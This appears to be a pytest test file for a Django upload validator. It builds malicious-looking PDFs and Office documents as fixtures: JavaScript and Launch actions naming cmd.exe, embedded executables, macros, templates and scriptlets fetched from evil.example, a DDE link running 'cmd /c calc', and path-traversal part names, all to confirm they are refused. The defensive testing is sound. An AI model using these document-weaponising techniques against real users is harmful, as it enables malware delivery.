"""Files that look like documents at first but carry programs, scripts, macros or objects."""

import io
import warnings
import zipfile
import zlib
from pathlib import Path

import pytest
from django.core import mail
from django.urls import reverse

from submissions.models import Submission, SubmissionFile
from tests.submissions.documents import (
    DECLARED_TYPES,
    LINUX_EXECUTABLE,
    MZ_LOOKALIKE,
    WINDOWS_EXECUTABLE,
    object_stream,
    office_bytes,
    pdf_bytes,
    pdf_stream,
    upload,
)
from tests.submissions.pages import field_error

pytestmark = pytest.mark.django_db

SHARE_URL = reverse("submissions:share")

PROGRAM = "contains a program"
ACTIVE = "contains scripts, actions that run when it is opened, forms or attached files"
INCOMPLETE = "is not a complete PDF"
UNCHECKABLE = "is stored in a way that cannot be checked"
EMBEDDED = "contains embedded objects or files"
MACROS = "contains macros"
ACTIVEX = "contains ActiveX controls"
NOT_WELL_FORMED = "is not a well-formed office document"
PASSWORD = "is password-protected"
FETCHES = "links to a template, object or document elsewhere"
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
JAVASCRIPT_ACTION = b"<< /S /JavaScript /JS (app.alert(1)) >>"


def send(client, data, document):
    return client.post(SHARE_URL, {**data, "files": [document]})


def assert_refused(response, name, reason, private_storage_root):
    content = response.content.decode()
    assert response.status_code == 200
    message = field_error(content, "files") or ""
    assert f"{name} {reason}" in message
    assert 'value="Sam Patel"' in content
    assert "Youth workers meet young people found carrying knives in custody." in content
    assert Submission.objects.count() == 0
    root = Path(private_storage_root)
    assert not root.exists() or not any(path.is_file() for path in root.rglob("*"))
    assert mail.outbox == []


PDFS = {
    "pdf-header-on-a-windows-program": (b"%PDF-1.4\n" + WINDOWS_EXECUTABLE, PROGRAM),
    "pdf-header-on-a-linux-program": (b"%PDF-1.4\n" + LINUX_EXECUTABLE, PROGRAM),
    "pdf-header-on-other-bytes": (b"%PDF-1.4\n" + MZ_LOOKALIKE, INCOMPLETE),
    "program-in-a-plain-stream": (
        pdf_bytes(objects=[pdf_stream(WINDOWS_EXECUTABLE, compress=False)]),
        PROGRAM,
    ),
    "program-in-a-compressed-stream": (pdf_bytes(objects=[pdf_stream(LINUX_EXECUTABLE)]), PROGRAM),
    "program-behind-an-escaped-filter-name": (
        pdf_bytes(
            objects=[
                b"<< /Filter /Fl#61teDecode >>\nstream\n"
                + zlib.compress(WINDOWS_EXECUTABLE)
                + b"\nendstream",
            ]
        ),
        PROGRAM,
    ),
    "program-after-the-end": (pdf_bytes() + WINDOWS_EXECUTABLE, PROGRAM),
    "cut-short": (pdf_bytes(padding=2000)[:1500], INCOMPLETE),
    "no-cross-reference": (pdf_bytes().replace(b"startxref", b"startx"), INCOMPLETE),
    "no-objects": (b"%PDF-1.7\n" + b" " * 100 + b"\nstartxref\n0\n%%EOF\n", INCOMPLETE),
    "javascript-on-opening": (pdf_bytes(catalog=b"/OpenAction " + JAVASCRIPT_ACTION), ACTIVE),
    "document-level-javascript": (
        pdf_bytes(catalog=b"/Names << /JavaScript 6 0 R >>", objects=[b"<< /Names [] >>"]),
        ACTIVE,
    ),
    "hex-escaped-javascript": (
        pdf_bytes(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
        ACTIVE,
    ),
    "launch-action": (
        pdf_bytes(objects=[b"<< /Type /Annot /A << /S /Launch /F (cmd.exe) >> >>"]),
        ACTIVE,
    ),
    "additional-actions": (
        pdf_bytes(objects=[b"<< /Type /Annot /AA << /O 7 0 R >> >>"]),
        ACTIVE,
    ),
    "attached-files": (
        pdf_bytes(
            catalog=b"/Names << /EmbeddedFiles 6 0 R >>",
            objects=[pdf_stream(b"attachment", b"/Type /EmbeddedFile")],
        ),
        ACTIVE,
    ),
    "rich-media": (pdf_bytes(objects=[b"<< /Type /Annot /Subtype /RichMedia >>"]), ACTIVE),
    "xfa-form": (pdf_bytes(catalog=b"/AcroForm << /XFA 6 0 R >>"), ACTIVE),
    "opening-a-web-address": (
        pdf_bytes(catalog=b"/OpenAction 6 0 R", objects=[b"<< /S /URI /URI (http://x.test) >>"]),
        ACTIVE,
    ),
    "opening-a-chain-of-actions": (
        pdf_bytes(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>"),
        ACTIVE,
    ),
    "javascript-hidden-in-an-object-stream": (
        pdf_bytes(objects=[object_stream({7: JAVASCRIPT_ACTION})]),
        ACTIVE,
    ),
    "opening-action-hidden-in-an-object-stream": (
        pdf_bytes(
            catalog=b"/OpenAction 7 0 R",
            objects=[object_stream({7: b"<< /S /SubmitForm /F (http://x.test) >>"})],
        ),
        ACTIVE,
    ),
    "javascript-after-a-fake-stream-in-a-string": (
        pdf_bytes(
            catalog=b"/Title (>> stream\n) /OpenAction " + JAVASCRIPT_ACTION + b" /S (endstream)"
        ),
        ACTIVE,
    ),
    "object-stream-in-an-unreadable-encoding": (
        pdf_bytes(
            objects=[
                b"<< /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode /Length 4 >>\n"
                b"stream\n\x80\x0b\x60\x50\nendstream"
            ]
        ),
        UNCHECKABLE,
    ),
    "encrypted": (pdf_bytes(trailer=b"/Encrypt 6 0 R"), "is encrypted or password-protected"),
}


@pytest.mark.parametrize(("content", "reason"), PDFS.values(), ids=PDFS.keys())
def test_a_pdf_carrying_something_that_could_run_is_refused(
    client, valid_practice, private_storage_root, content, reason
):
    response = send(client, valid_practice, upload("plan.pdf", content, DECLARED_TYPES["pdf"]))
    assert_refused(response, "plan.pdf", reason, private_storage_root)


@pytest.mark.parametrize(
    "content",
    [
        pdf_bytes(catalog=b"/OpenAction [3 0 R /Fit]"),
        pdf_bytes(catalog=b"/OpenAction 6 0 R", objects=[b"[3 0 R /FitH 792]"]),
        pdf_bytes(catalog=b"/OpenAction 6 0 R", objects=[b"<< /S /GoTo /D [3 0 R /Fit] >>"]),
        pdf_bytes(objects=[object_stream({7: b"<< /Type /Annot /Subtype /Link >>"})]),
        pdf_bytes(objects=[pdf_stream(MZ_LOOKALIKE * 20)]),
        pdf_bytes(objects=[pdf_stream(b"JFIF" + bytes(range(256)) * 40, b"/Filter /DCTDecode")]),
    ],
    ids=[
        "opens-at-a-page",
        "opens-at-a-page-by-reference",
        "opens-with-a-plain-go-to",
        "object-streams",
        "letters-mz-in-a-stream",
        "images",
    ],
)
def test_ordinary_pdfs_are_accepted(client, valid_practice, content):
    response = send(client, valid_practice, upload("plan.pdf", content, DECLARED_TYPES["pdf"]))
    assert response.status_code == 302
    assert SubmissionFile.objects.get().file_type == "pdf"


def test_a_pdf_that_expands_to_far_more_than_a_document_is_refused(
    client, valid_practice, private_storage_root, monkeypatch
):
    monkeypatch.setattr("submissions.validators.MAX_PDF_EXPANDED_BYTES", 1024 * 1024)
    content = pdf_bytes(objects=[pdf_stream(b"\0" * (2 * 1024 * 1024))])
    response = send(client, valid_practice, upload("plan.pdf", content))
    assert_refused(
        response, "plan.pdf", "expands to far more than a document would", private_storage_root
    )


def raw_zip(entries):
    """A zip written entry by entry, so that names and flags can be anything."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, data in entries:
            archive.writestr(info, data)
    return buffer.getvalue()


def docx_with(extra_parts=(), content_types=""):
    return office_bytes("docx", extra_parts=extra_parts, extra_content_types=content_types)


def encrypted_entry_docx():
    plain = docx_with([("word/secret.xml", b"<secret/>")])
    # Set the "encrypted" flag on the last entry, in its local header and the central directory.
    marker = plain.rfind(b"PK\x03\x04")
    central = plain.rfind(b"PK\x01\x02")
    data = bytearray(plain)
    data[marker + 6] |= 0x1
    data[central + 8] |= 0x1
    return bytes(data)


def package(main_part, content_type, *extra_parts):
    types = f'<Types><Override PartName="/{main_part}" ContentType="{content_type}"/></Types>'
    return raw_zip([("[Content_Types].xml", types), (main_part, "<w/>"), *extra_parts])


def with_duplicate_part():
    main_part = "word/document.xml"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile warns of the duplicate name.
        return package(main_part, DECLARED_TYPES["docx"] + ".main+xml", (main_part, "<x/>"))


def relationships(*entries):
    """A .rels part: each entry is (type, target, target mode)."""
    rows = "".join(
        f'<Relationship Id="rId{number}" Type="{RELATIONSHIPS}/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for number, (kind, target, mode) in enumerate(entries, start=1)
    )
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{rows}</Relationships>"
    )


OFFICE_FILES = {
    "macros-by-part-name": (docx_with([("word/vbaProject.bin", b"macro")]), MACROS),
    "macros-by-content-type": (
        docx_with(
            content_types='<Default Extension="bin" '
            'ContentType="application/vnd.ms-office.vbaProject"/>'
        ),
        MACROS,
    ),
    "macro-enabled-main-part": (
        package("xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        MACROS,
    ),
    "embedded-program": (docx_with([("word/embeddings/evil.exe", WINDOWS_EXECUTABLE)]), EMBEDDED),
    "embedded-document": (docx_with([("word/embeddings/sheet.xlsx", b"PK")]), EMBEDDED),
    "ole-object": (docx_with([("word/media/oleObject1.bin", b"x")]), EMBEDDED),
    "ole-compound-file-in-a-part": (
        docx_with([("word/media/image1.png", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100)]),
        EMBEDDED,
    ),
    "activex": (docx_with([("word/activeX/activeX1.xml", b"<ax/>")]), ACTIVEX),
    "program-by-name": (docx_with([("word/tools/setup.exe", b"hello")]), PROGRAM),
    "windows-program-as-an-image": (
        docx_with([("word/media/image1.png", WINDOWS_EXECUTABLE)]),
        PROGRAM,
    ),
    "linux-program-as-an-image": (
        docx_with([("word/media/image1.png", LINUX_EXECUTABLE)]),
        PROGRAM,
    ),
    "windows-program-inside-a-part": (
        docx_with([("word/media/image1.png", b"\x89PNG" + b"\0" * 5000 + WINDOWS_EXECUTABLE)]),
        PROGRAM,
    ),
    "template-fetched-on-opening": (
        docx_with(
            [
                (
                    "word/_rels/settings.xml.rels",
                    relationships(("attachedTemplate", "https://evil.example/t.dotm", "External")),
                )
            ]
        ),
        FETCHES,
    ),
    "object-fetched-on-opening": (
        docx_with(
            [
                (
                    "word/_rels/document.xml.rels",
                    relationships(("oleObject", "file://evil.example/x.sct", "External")),
                )
            ]
        ),
        FETCHES,
    ),
    "frame-fetched-on-opening": (
        docx_with(
            [
                (
                    "word/_rels/webSettings.xml.rels",
                    relationships(("frame", "https://evil.example/f", "External")),
                )
            ]
        ),
        FETCHES,
    ),
    "absolute-part-name": (docx_with([("/etc/cron.d/job", b"x")]), NOT_WELL_FORMED),
    "parent-folder-in-a-part-name": (docx_with([("word/../../evil.xml", b"x")]), NOT_WELL_FORMED),
    "drive-letter-in-a-part-name": (docx_with([("C:/evil.xml", b"x")]), NOT_WELL_FORMED),
    "duplicate-part": (with_duplicate_part(), NOT_WELL_FORMED),
    "encrypted-part": (encrypted_entry_docx(), PASSWORD),
    "main-part-missing": (
        package("word/elsewhere.xml", DECLARED_TYPES["docx"] + ".main+xml"),
        "is not a Word, Excel or PowerPoint document",
    ),
}


@pytest.mark.parametrize(("content", "reason"), OFFICE_FILES.values(), ids=OFFICE_FILES.keys())
def test_an_office_document_carrying_something_that_could_run_is_refused(
    client, valid_practice, private_storage_root, content, reason
):
    response = send(client, valid_practice, upload("plan.docx", content, DECLARED_TYPES["docx"]))
    assert_refused(response, "plan.docx", reason, private_storage_root)


def test_an_old_or_password_protected_office_file_is_refused_with_what_to_do(
    client, valid_practice, private_storage_root
):
    compound_file = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    response = send(client, valid_practice, upload("plan.doc", compound_file))
    assert_refused(response, "plan.doc", "is an older Office file", private_storage_root)
    assert "Save it as .docx, .xlsx or .pptx without a password" in response.content.decode()


def test_a_workbook_with_a_dde_link_is_refused(client, valid_practice, private_storage_root):
    content = office_bytes(
        "xlsx",
        extra_parts=[
            (
                "xl/externalLinks/externalLink1.xml",
                '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
            )
        ],
    )
    response = send(client, valid_practice, upload("plan.xlsx", content))
    assert_refused(response, "plan.xlsx", FETCHES, private_storage_root)


def test_a_document_with_web_links_and_its_own_template_is_accepted(client, valid_practice):
    content = docx_with(
        [
            (
                "word/_rels/document.xml.rels",
                relationships(
                    ("hyperlink", "https://www.college.police.uk/", "External"),
                    ("styles", "styles.xml", None),
                ),
            ),
            (
                "word/_rels/settings.xml.rels",
                relationships(("attachedTemplate", "Normal.dotm", None)),
            ),
        ]
    )
    response = send(client, valid_practice, upload("plan.docx", content))
    assert response.status_code == 302
    assert SubmissionFile.objects.get().file_type == "docx"


@pytest.mark.parametrize("kind", ["docx", "xlsx", "pptx"])
def test_ordinary_office_documents_with_pictures_and_printer_settings_are_accepted(
    client, valid_practice, kind
):
    folder = {"docx": "word", "xlsx": "xl", "pptx": "ppt"}[kind]
    content = office_bytes(
        kind,
        extra_parts=[
            (f"{folder}/media/image1.png", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20),
            (f"{folder}/printerSettings/printerSettings1.bin", b"\x00\x01" * 200),
            ("docProps/app.xml", "<Properties/>"),
        ],
    )
    response = send(client, valid_practice, upload(f"plan.{kind}", content))
    assert response.status_code == 302
    assert SubmissionFile.objects.get().file_type == kind
